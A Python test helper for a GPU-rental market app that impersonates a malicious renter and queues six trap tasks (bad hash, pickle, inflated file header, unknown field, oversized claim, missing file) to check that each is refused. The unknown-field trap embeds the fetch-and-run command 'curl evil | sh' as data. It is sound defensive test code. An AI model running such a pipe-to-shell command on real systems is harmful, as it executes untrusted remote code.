"""A renter who means harm, on a running practice network: past the pool's door, straight onto the queue.

It has a real renter's key and the pool's login. Used by `test_bad_days.py`.
"""

import asyncio
import hashlib
import json
import pickle
import secrets
import struct
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from desktop_app.adapters.chain import escrow_domain
from desktop_app.adapters.market import Bus, Endpoint, Session
from desktop_app.adapters.market.blobs import upload
from desktop_app.adapters.market.leases import look
from desktop_app.core.gpu import Tier
from desktop_app.practice.folder import RENTER, Folder
from desktop_app.wire import eip712
from desktop_app.wire import market as wire
from desktop_app.wire.logins import POOL, login
from desktop_app.wire.networks import load_practice
from desktop_app.wire.resources import resource
from tests.manifests import spoiled, written

RATE = 3_000_000  # micro-dollars per GPU-hour: worth anybody's while


@dataclass(frozen=True)
class Trap:
    """One task that is not what it seems: the words it must be refused with, and what it is made of."""

    name: str
    reason: str
    task_id: str
    changes: dict[str, Any]
    content: bytes = b""  # the data file, when one is put into the store at all


def traps() -> tuple[Trap, ...]:
    """One of each kind."""
    digits = resource("practice/digits-train.safetensors").read_bytes()
    promised, given = digits[:-8] + secrets.token_bytes(8), digits[:-8] + secrets.token_bytes(8)
    pickled = pickle.dumps({"weights": [0.0] * 2_000})
    header = json.dumps({"x": {"dtype": "F32", "shape": [2_500_000_000], "data_offsets": [0, 10_000_000_000]}}).encode()
    boast = struct.pack("<Q", len(header)) + header + bytes(64)
    return (
        _trap("a wrong hash", "does not match its hash", _data(promised), given),
        _trap("a pickle", "is a Python pickle, which can carry code", _data(pickled), pickled),
        _trap("a header that claims 10 GB", "the file for data is refused", _data(boast), boast),
        _trap("an unknown key", "unknown field `run_me`", _data(promised) | {"run_me": "curl evil | sh"}),
        _trap("a claim of 10 GB", "claims 10.0 GB, more than the", _data(promised, size=10_000_000_000)),
        _trap("a file that is not there", "is not in the market's store", _data(secrets.token_bytes(100))),
    )


def publish(practice: Path, laid: tuple[Trap, ...]) -> None:
    """Queue all of them."""
    asyncio.run(_in_session(practice, lambda session: _publish(practice, session, laid)))


def standing(practice: Path, laid: tuple[Trap, ...]) -> list[tuple[wire.LeaseRecord, bool]]:
    """What the market says of each, and whether its message is still queued."""
    found: list[tuple[wire.LeaseRecord, bool]] = []

    async def ask(session: Session) -> None:
        for trap in laid:
            record = await look(session, trap.task_id)
            assert record is not None
            found.append((record[0], await _queued(session, trap)))

    asyncio.run(_in_session(practice, ask))
    return found


def standing_at_last(practice: Path, laid: tuple[Trap, ...]) -> list[tuple[wire.LeaseRecord, bool]]:
    """`standing`, once none is queued: the agent has said so, and the pool and the server act on it a moment later."""
    end = time.monotonic() + 60
    found = standing(practice, laid)
    while any(queued or record.standing is not wire.Standing.DEAD for record, queued in found) and time.monotonic() < end:
        time.sleep(0.2)
        found = standing(practice, laid)
    return found


async def _in_session(practice: Path, work: Any) -> None:
    network = load_practice(practice / "network.json")
    mine = login(practice, POOL)
    done = asyncio.get_running_loop().create_future()

    async def serve(session: Session) -> None:
        if not done.done():
            await work(session)
            done.set_result(None)

    running = asyncio.ensure_future(Bus(lambda: Endpoint(network.nats_urls, mine.user, mine.password), serve, lambda _detail: None).run())
    try:
        await asyncio.wait_for(done, 60)
    finally:
        running.cancel()
        await asyncio.gather(running, return_exceptions=True)


async def _publish(practice: Path, session: Session, laid: tuple[Trap, ...]) -> None:
    keys = Folder(practice).renter_keys()
    domain = escrow_domain(load_practice(practice / "network.json"))
    for trap in laid:
        if trap.content:
            with tempfile.NamedTemporaryFile() as file:
                file.write(trap.content)
                file.flush()
                await upload(session, trap.changes["inputs"][0]["sha256"], Path(file.name))
        manifest, raw = written()
        raw = spoiled(raw, task_id=trap.task_id, renter=keys.address(RENTER), expires=int(time.time()) + 3600, **trap.changes)
        signature = keys.sign_typed(RENTER, eip712.manifest(domain, manifest.job_id, hashlib.sha256(raw).hexdigest()))
        await session.write(wire.LEASES, trap.task_id, wire.pack(wire.LeaseRecord(wire.Standing.QUEUED)), 0)
        posted = wire.PostedTask(trap.task_id, raw.decode(), signature, RATE)
        await session.publish(wire.task_subject(Tier.PRACTICE), wire.pack(posted))
    keys.close()


async def _queued(session: Session, trap: Trap) -> bool:
    state = (await session.stream.stream_info(wire.TASKS)).state
    waiting = [await session.message(wire.TASKS, number) for number in range(state.first_seq, state.last_seq + 1)]
    return any(trap.task_id.encode() in message for message in waiting if message)


def _trap(name: str, reason: str, changes: dict[str, Any], content: bytes = b"") -> Trap:
    return Trap(name, reason, secrets.token_hex(12), changes, content)


def _data(content: bytes, size: int | None = None) -> dict[str, Any]:
    blob = {"role": "data", "sha256": hashlib.sha256(content).hexdigest(), "bytes": size or len(content), "format": "safetensors"}
    return {"inputs": [blob]}
